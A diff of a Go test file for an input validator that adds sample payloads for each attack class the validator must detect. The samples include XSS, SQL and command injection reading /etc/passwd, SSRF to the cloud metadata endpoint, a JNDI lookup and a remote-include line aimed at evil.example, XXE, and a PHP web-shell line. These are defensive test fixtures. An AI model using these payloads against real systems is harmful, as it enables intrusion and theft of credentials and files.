@@ -23,7 +23,7 @@ func TestInspectHonestText(t *testing.T) {
 }
 
 func TestInspectFindsEachClass(t *testing.T) {
-	for class, s := range map[validate.Class]string{
+	examples := map[validate.Class]string{
 		validate.ClassXSS:           `<svg onload=alert(1)>`,
 		validate.ClassSQLi:          `' UNION SELECT password FROM users--`,
 		validate.ClassCmdi:          `; cat /etc/passwd`,
@@ -34,7 +34,24 @@ func TestInspectFindsEachClass(t *testing.T) {
 		validate.ClassSSRF:          `http://169.254.169.254/latest/meta-data/`,
 		validate.ClassRFI:           `/index.php?page=http://evil.example/shell.txt?`,
 		validate.ClassUnicode:       "photo\u202egpj.exe",
-	} {
+
+		validate.ClassNoSQLi:             `{"$gt": ""}`,
+		validate.ClassLDAPi:              `*)(uid=*))(|(uid=*`,
+		validate.ClassXPath:              `' or '1'='1' or //user[position()=1]`,
+		validate.ClassSSTI:               `{{config.__class__.__init__.__globals__}}`,
+		validate.ClassEL:                 `${jndi:ldap://evil.example/a}`,
+		validate.ClassXXE:                `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>`,
+		validate.ClassSSI:                `<!--#exec cmd="id" -->`,
+		validate.ClassCodeInjection:      `<?php system($_GET['c']); ?>`,
+		validate.ClassDeserialization:    `O:8:"stdClass":1:{s:1:"a";i:1;}`,
+		validate.ClassPrototypePollution: `{"__proto__":{"admin":true}}`,
+	}
+	for _, class := range validate.Classes() {
+		if class != validate.ClassLink { // off unless asked for
+			assert.Contains(t, examples, class, "no example")
+		}
+	}
+	for class, s := range examples {
 		found := validate.Inspect(s)
 		require.NotEmpty(t, found, "%s: %q", class, s)
 		var classes []validate.Class
